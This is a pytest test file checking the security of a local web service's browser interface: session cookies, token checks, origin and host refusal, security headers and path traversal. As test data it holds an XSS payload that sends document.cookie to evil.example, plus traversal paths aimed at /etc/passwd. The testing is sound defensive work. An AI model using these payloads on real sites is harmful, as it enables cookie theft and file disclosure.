"""Who gets nothing from the page: other sites in the same browser, programs without the token, what is too much."""

from __future__ import annotations

import json
import socket
import stat
from http.cookies import SimpleCookie

import pytest
from daemon import KEYWORDS_ONLY, Daemon
from web_client import BASE, WEB, Browser
from wire import Wire, contents

CONFIG = {**KEYWORDS_ONLY, "web": WEB}
HOSTILE = '<script>fetch("//evil.example/"+document.cookie)</script><img src=x onerror=alert(1)>'


@pytest.fixture(scope="module")
def browser(memory: Daemon) -> Browser:
    return Browser.of(memory.data)


def cookie_of(browser: Browser) -> SimpleCookie:
    """What the page gets for the token."""
    reply = browser.stranger().post("session", {"token": browser.token})
    assert reply.status == 204
    return SimpleCookie(reply.headers["Set-Cookie"])


def test_the_token_becomes_a_cookie_that_scripts_and_other_sites_do_not_get(browser: Browser) -> None:
    (morsel,) = cookie_of(browser).values()
    assert morsel.key == "memory_session"
    assert (morsel["samesite"], morsel["httponly"], morsel["path"]) == ("Strict", True, "/")
    assert browser.token not in morsel.value
    cookie = {"Cookie": f"memory_session={morsel.value}"}
    assert browser.stranger().send("POST", BASE + "status", "{}", cookie).data["ready"]
    assert browser.stranger().send("GET", BASE + "owners", None, cookie).status == 200


def test_a_cookie_is_taken_back(browser: Browser) -> None:
    reply = browser.send("DELETE", BASE + "session", "{}")
    assert reply.status == 204
    assert 'memory_session=""' in reply.headers["Set-Cookie"]


@pytest.mark.parametrize("path", ["owners", "recalls", "recalls/live", "export", "disk", "openapi.json"])
def test_nothing_is_read_without_a_token(browser: Browser, path: str) -> None:
    reply = browser.stranger().get(BASE + path)
    assert (reply.status, reply.code) == (401, "unauthorized")
    assert "ovos-memory-bus inspect" in reply.data["error"]["message"]


@pytest.mark.parametrize("topic", ["item/list", "item/add", "forget", "status", "nothing/at/all"])
def test_nothing_is_asked_without_a_token(browser: Browser, topic: str) -> None:
    assert browser.stranger().post(topic, {"what": "owner"}).status == 401


@pytest.mark.parametrize("cookie", ["", "x", "9999999999.n.0", "9999999999.n." + "0" * 64, "..", "a.b.c.d"])
def test_a_made_up_cookie_is_refused(browser: Browser, cookie: str) -> None:
    reply = browser.stranger().send("POST", BASE + "status", "{}", {"Cookie": f"memory_session={cookie}"})
    assert reply.status == 401


@pytest.mark.parametrize(
    "host", ["evil.example", "evil.example:{port}", "127.0.0.1", "127.0.0.1:1", "127.0.0.1.evil.example:{port}", ""]
)
@pytest.mark.parametrize("path", ["/", "/health", "/metrics", BASE + "owners"])
def test_a_name_that_points_here_is_not_served(browser: Browser, host: str, path: str) -> None:
    reply = browser.get(path, Host=host.format(port=browser.port))
    assert (reply.status, reply.code) == (403, "forbidden")


@pytest.mark.parametrize("host", ["127.0.0.1:{port}", "localhost:{port}", "LOCALHOST:{port}", "[::1]:{port}"])
def test_this_device_names_are_served(browser: Browser, host: str) -> None:
    assert browser.get(BASE + "owners", Host=host.format(port=browser.port)).status == 200


@pytest.mark.parametrize("origin", ["https://evil.example", "null", "http://127.0.0.1:1", "https://127.0.0.1:{port}"])
@pytest.mark.parametrize("method", ["GET", "POST", "DELETE"])
def test_a_foreign_page_is_refused_even_with_the_cookie(browser: Browser, origin: str, method: str) -> None:
    (morsel,) = cookie_of(browser).values()
    headers = {"Cookie": f"memory_session={morsel.value}", "Origin": origin.format(port=browser.port)}
    path = {"GET": "owners", "POST": "forget", "DELETE": "session"}[method]
    body = None if method == "GET" else '{"what": "owner"}'
    reply = browser.stranger().send(method, BASE + path, body, headers)
    assert (reply.status, reply.code) == (403, "forbidden")
    assert "Access-Control-Allow-Origin" not in reply.headers


@pytest.mark.parametrize("site", ["cross-site", "same-site"])
def test_a_request_that_another_site_caused_is_refused(browser: Browser, site: str) -> None:
    assert browser.get(BASE + "export", Sec_Fetch_Site=site).status == 403


@pytest.mark.parametrize("kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data", ""])
def test_what_a_form_can_send_is_refused(browser: Browser, kind: str) -> None:
    reply = browser.send("POST", BASE + "forget", '{"what": "owner"}', {"Content-Type": kind})
    assert reply.status == 403


def test_the_page_itself_is_answered(browser: Browser) -> None:
    own = {"Origin": f"http://127.0.0.1:{browser.port}", "Sec-Fetch-Site": "same-origin"}
    assert browser.send("POST", BASE + "status", "{}", own).status == 200


def test_a_preflight_allows_nothing(browser: Browser) -> None:
    asked = {"Origin": "https://evil.example", "Access-Control-Request-Method": "POST"}
    reply = browser.stranger().send("OPTIONS", BASE + "item/list", None, asked)
    assert reply.status >= 400
    assert not [name for name in reply.headers if name.lower().startswith("access-control")]


def test_a_body_that_is_too_large_is_refused_and_the_service_goes_on(browser: Browser) -> None:
    reply = browser.send("POST", BASE + "item/add", json.dumps({"content": "x" * (9 * 2**20)}))
    assert (reply.status, reply.code) == (413, "too_large")
    assert browser.do("status")["ready"]


def test_hostile_content_stays_text(browser: Browser, wire: Wire) -> None:
    wire.add(HOSTILE)
    reply = browser.post("item/list")
    assert contents(reply.data["items"]) == [HOSTILE]
    assert reply.headers["Content-Type"] == "application/json; charset=utf-8"
    assert reply.headers["X-Content-Type-Options"] == "nosniff"
    exported = browser.get(BASE + "export")
    assert exported.headers["Content-Disposition"].startswith("attachment")
    assert exported.headers["Content-Type"].startswith("application/x-ndjson")


@pytest.mark.parametrize("path", ["/", "/health", "/nothing", BASE + "owners", BASE + "export", "/static/nothing.js"])
def test_every_answer_carries_the_headers(browser: Browser, path: str) -> None:
    headers = browser.get(path).headers
    policy = dict(rule.strip().split(" ", 1) for rule in headers["Content-Security-Policy"].split(";"))
    assert policy["default-src"] == "'none'"
    assert policy["script-src"] == policy["style-src"] == policy["connect-src"] == "'self'"
    assert policy["frame-ancestors"] == policy["base-uri"] == policy["form-action"] == "'none'"
    assert "unsafe" not in headers["Content-Security-Policy"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    assert headers["Referrer-Policy"] == "no-referrer"
    assert headers["X-Frame-Options"] == "DENY"
    assert headers["Cache-Control"] in ("no-store", "no-cache")
    assert headers["Server"] == "ovos-memory-bus"


@pytest.mark.parametrize(
    "path",
    [
        "/static/../server.py",
        "/static/..%2fserver.py",
        "/static/%2e%2e/%2e%2e/config.py",
        "/static//etc/passwd",
        "/static/%2Fetc%2Fpasswd",
        "/static/..\\server.py",
        "/static/x%00.html",
        "/../../etc/passwd",
        "/static/",
    ],
)
def test_no_file_but_the_pages_own_is_served(browser: Browser, path: str) -> None:
    with socket.create_connection((browser.host, browser.port), timeout=30) as connection:
        request = f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{browser.port}\r\nConnection: close\r\n\r\n"
        connection.sendall(request.encode())
        answer = b"".join(iter(lambda: connection.recv(65_536), b""))
    assert answer.split(b" ", 2)[1] in (b"404", b"400")
    assert b"root:" not in answer
    assert b"import" not in answer


@pytest.mark.parametrize("raw", [b"\x16\x03\x01\x02\x00\x01", b"GET / HTTP/1.1\r\n" + b"A: b\r\n" * 5_000 + b"\r\n"])
def test_what_is_no_http_does_no_harm(browser: Browser, raw: bytes) -> None:
    with socket.create_connection((browser.host, browser.port), timeout=30) as connection:
        connection.sendall(raw)
        connection.shutdown(socket.SHUT_WR)
        connection.recv(65_536)
    assert browser.do("status")["ready"]


def test_the_files_with_the_token_are_their_users_alone(memory: Daemon) -> None:
    modes = {name: stat.S_IMODE((memory.data / name).stat().st_mode) for name in ("web.token", "web.json")}
    assert modes == {"web.token": 0o600, "web.json": 0o600}
    assert stat.S_IMODE(memory.data.stat().st_mode) == 0o700


def test_the_token_is_in_no_log(memory: Daemon, browser: Browser) -> None:
    browser.stranger().post("session", {"token": browser.token})
    browser.do("status")
    assert browser.token not in memory.logged()
